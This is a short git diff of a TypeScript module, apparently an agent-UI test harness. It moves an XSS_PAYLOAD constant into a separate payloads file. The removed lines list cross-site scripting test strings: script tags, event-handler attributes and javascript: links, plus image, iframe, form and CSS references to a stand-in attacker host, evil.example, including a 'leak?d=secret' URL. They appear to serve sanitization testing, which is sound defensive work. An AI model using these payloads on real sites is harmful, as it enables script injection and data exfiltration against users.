@@ -26,6 +26,7 @@ import type { GuardMode } from '../bindings';
 import { compactScript, contextScript } from './contextScripts';
 import { fetchScript, screenMessage } from './guardScripts';
 import { deepScript, nestedScript, planScript, shellScript, twinScript, writeScript, type Body, type Step, type StoredSub } from './scripts';
+import { XSS_PAYLOAD } from './payloads';
 import { traceOf } from './trace';
 interface ChannelLike {
   id: number;
@@ -70,24 +71,6 @@ interface Run {
   /** The approval the run waits on, and how it goes on after each answer. */
   gate: { request_id: string; scope: Partial<AgentEvent>; allow: Step[]; deny: Step[] } | null;
 }
-
-export const XSS_PAYLOAD = [
-  'Here are some payloads:',
-  '',
-  '<script>window.__xss = "script"</script>',
-  '<img src=x onerror="window.__xss=\'img\'">',
-  '<img src="https://evil.example/leak?d=secret">',
-  '[click me](javascript:window.__xss=\'link\')',
-  '<a href="javascript:window.__xss=\'a\'">raw link</a>',
-  '<iframe src="https://evil.example/frame"></iframe>',
-  '<svg onload="window.__xss=\'svg\'"><foreignObject><img src="https://evil.example/fo"></foreignObject></svg>',
-  '<p style="background:url(https://evil.example/bg)">styled</p>',
-  '<form action="https://evil.example/f"><input name=a></form>',
-  '![x](https://evil.example/x.png)',
-  '<details open ontoggle="window.__xss=\'toggle\'">d</details>',
-  '',
-  'A [safe link](https://example.com/docs).',
-].join('\n\n');
 
 const now = () => Date.now();
 const err = (code: ErrorInfo['code'], message: string, recovery: ErrorInfo['recovery'] = 'retry'): ErrorInfo => ({ code, recovery, message, details: null });
